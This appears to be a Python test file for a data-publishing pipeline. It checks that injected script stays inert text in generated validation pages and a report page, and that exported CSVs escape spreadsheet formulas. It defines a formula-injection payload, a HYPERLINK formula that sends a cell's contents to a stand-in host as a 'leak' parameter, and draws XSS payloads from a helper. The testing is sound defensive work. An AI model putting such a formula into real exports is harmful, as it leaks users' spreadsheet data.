"""Text from the sources never runs as script in a page we write (#14.4), checked in a real
headless Chromium: the run's Data Docs (GX's templates escape nothing) and the report page.
The report's CSVs carry the same text without starting a spreadsheet formula (#14.6)."""

from __future__ import annotations

import csv

import pandas as pd

from ai_landscape.publish.warehouse import open_store
from ai_landscape.report.build import build_report
from ai_landscape.validate.docs import write_data_docs
from tests.browser import open_page, xss_payloads
from tests.gate_frames import RUN, replay_records, row_of, run_gate
from tests.real_frames import SEEN_AT, replay_tables

FORMULA = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"details")'


def test_data_docs_show_hostile_values_as_text(browser, tmp_path):
    """A model whose access cell is `<script>...` fails validation, and its value is shown."""
    attack = xss_payloads("docs")
    tables = replay_tables()
    models = tables["models"]
    for payload, model_id in zip(
        attack, ["deepseek/deepseek-r1", "xai/grok-4.20", "meta-ai/llama-3.1-405b"], strict=True
    ):
        models.loc[row_of(tables, model_id), "weights_access"] = payload
    records = replay_records()
    records["epoch.notable"].loc[0, "Model accessibility"] = attack[2]
    result = run_gate(tables, records)
    assert not result.publishable  # weights_access outside its set blocks

    index = write_data_docs(tmp_path, RUN, result)
    pages = sorted(index.parent.glob("*.html"))
    assert len(pages) >= 3
    shown = []
    for page in pages:
        check = open_page(browser, page)
        assert check.alert is None, f"{page.name} opened an alert: {check.alert}"
        assert check.ran == [], f"{page.name} ran injected script: {check.ran}"
        shown += [p for p in attack if p in check.text]
    assert set(shown) == set(attack)  # each hostile value is on a page, as text


def test_report_page_shows_hostile_names_as_text_and_csvs_hold_no_formula(browser, tmp_path):
    store = open_store(tmp_path / "warehouse")
    base = replay_tables()
    store.publish(base, created_at=SEEN_AT, info={"mode": "replay"})
    attack = [*xss_payloads("report"), FORMULA]
    tables = replay_tables()
    models = tables["models"]
    template = models.iloc[[row_of(tables, "deepseek/deepseek-r1")] * len(attack)].copy()
    template["model_id"] = [f"deepseek/hostile-{i}" for i in range(len(attack))]
    template["name"] = attack
    tables["models"] = pd.concat([models, template], ignore_index=True)
    later = SEEN_AT + pd.Timedelta(days=1)
    published = store.publish(tables, created_at=later, info={"mode": "replay"})

    report = build_report(store.root, published.snapshot_id, tmp_path / "report")
    check = open_page(browser, report.page)
    assert check.alert is None
    assert check.ran == []
    for payload in xss_payloads("report"):
        assert payload in check.text
    with open(report.tables["changes"], newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert f"'{FORMULA}" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
